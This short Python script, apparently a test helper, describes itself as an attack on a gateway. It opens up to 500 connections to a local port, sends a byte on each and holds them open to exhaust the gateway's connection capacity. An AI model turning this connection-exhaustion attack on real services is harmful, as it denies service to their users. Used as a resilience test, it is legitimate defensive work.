# Attacks a gateway from a server: takes all its connections, and keeps them.
import socket
import sys
import time

held = []
for _ in range(500):
    way = socket.socket()
    way.settimeout(0.5)
    try:
        way.connect(("127.0.0.1", int(sys.argv[1])))
        way.send(b"x")
        held.append(way)
    except OSError:
        break
print(len(held), flush=True)
time.sleep(1e6)
